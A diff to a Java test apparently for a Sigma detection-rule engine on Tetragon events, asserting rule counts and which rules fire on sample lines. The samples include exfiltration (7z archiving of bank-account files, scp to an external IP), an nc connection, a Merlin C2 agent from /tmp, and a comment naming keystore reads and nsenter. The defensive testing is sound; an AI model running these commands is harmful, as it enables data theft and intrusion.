@@ -63,10 +63,57 @@ class SigmaRulesTest {
         try (Stream<Path> s = Files.walk(SigmaEvents.SIGMA.resolve("rules"))) {
             files = s.filter(p -> p.toString().endsWith(".yml")).count();
         }
-        System.out.println("sigma: " + files + " files, " + result.loaded().size() + " loaded, " + result.skipped().size()
-                + " skipped " + set.skippedByReason());
-        result.skipped().forEach(s -> System.out.println("  skipped " + s.source() + " " + s.title() + ": " + s.detail()));
+        assertEquals(135, files, "the rules routes/README.md reports on");
         assertEquals(files, result.loaded().size() + result.skipped().size());
+        // routes/README.md > Sigma rules reports these counts
+        assertEquals(132, result.loaded().size());
+        assertEquals(Map.of("field:DestinationHostname", 3), set.skippedByReason());
+        assertEquals(Map.of("process_creation", 122L, "file_event", 8L, "network_connection", 2L),
+                result.loaded().stream().collect(java.util.stream.Collectors.groupingBy(SigmaRule::category,
+                        java.util.stream.Collectors.counting())));
+        for (SigmaRule r : result.loaded()) {
+            assertNotNull(r.author(), r.source() + " names its author");
+            assertEquals(r.author(), r.rule().author());
+        }
+    }
+
+    /**
+     * Every real sample line through every loaded rule: what fires is what a reader of the rules expects, and
+     * nothing else. Reviewed: curl is "Curl Usage" (both lines); nc is a network scanning tool; the Merlin agent
+     * built by `go run` executes from /tmp; its `sh -c` children have a parent in /tmp; `uname -a` is system
+     * information discovery. Not firing, rightly: `cat elasticsearch.keystore` (the rule wants a redirect `>` in
+     * the command line), `whoami` under bash (the web shell rule wants a web server parent), `nsenter -t 1`
+     * (SigmaHQ has no Linux rule for it), the kprobe samples (no file_event path and no socket argument that a
+     * rule names).
+     */
+    @Test
+    void realSamplesFireExactlyTheRulesAReviewerExpects() {
+        List<String> fired = new ArrayList<>();
+        for (Path f : Samples.lineFiles()) {
+            for (String l : Samples.lines(f)) {
+                EventBatch b = M.parser.parse(Samples.batch("sample", List.of(l)));
+                for (TetragonEvent e : b.list()) {
+                    for (String id : set.matchingIds(e)) {
+                        fired.add(e.binary() + " " + e.root().path(e.typeKey()).path("process").path("arguments").asText("")
+                                + " => " + title(id));
+                    }
+                }
+            }
+        }
+        assertEquals(List.of(
+                "/usr/bin/curl https://ebpf.io/applications/#tetragon => Curl Usage on Linux",
+                "/usr/bin/curl www.google.com => Curl Usage on Linux",
+                "/usr/bin/nc raiz3gjkgtfhkkc.not-reverse-shell.com 443 => Linux Network Service Scanning Tools Execution",
+                "/tmp/go-build3518135900/b001/exe/main -v -url https://main.linux-libs.org:443 -proto h2 -psk SecurePSK!23@456"
+                        + " => Potentially Suspicious Execution From Tmp Folder",
+                "/bin/sh -c \"scp -i ~/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~\""
+                        + " => Shell Execution Of Process Located In Tmp Directory",
+                "/bin/sh -c \"7z a s3nsitiv3.7z ../ops_bank_accounts/\" => Shell Execution Of Process Located In Tmp Directory",
+                "/usr/bin/uname -a => System Information Discovery"), fired);
+    }
+
+    private static String title(String id) {
+        return result.loaded().stream().filter(r -> r.id().equals(id)).findFirst().orElseThrow().title();
     }
 
     @TestFactory
